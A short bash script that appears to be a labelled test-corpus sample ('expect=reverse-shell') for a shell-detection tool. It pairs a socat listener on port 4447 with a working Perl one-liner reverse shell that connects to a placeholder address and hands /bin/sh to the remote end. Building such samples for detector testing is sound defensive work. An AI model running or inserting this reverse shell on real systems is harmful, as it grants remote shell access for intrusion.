#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=perl far=out ready=out:4447 seconds=18
# perl connects, puts its descriptors on the connection and becomes a shell; the far end speaks TLS-like port 443 only by number.
if [ "$1" = out ]; then (sleep 2; for line in id "ls /" uptime exit; do echo "$line"; sleep 3; done) | timeout 30 socat -t 2 - TCP-LISTEN:4447,reuseaddr; exit 0; fi
cd "$LAB" && perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4447, inet_aton("198.51.100.66"))); open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec "/bin/sh"'; true
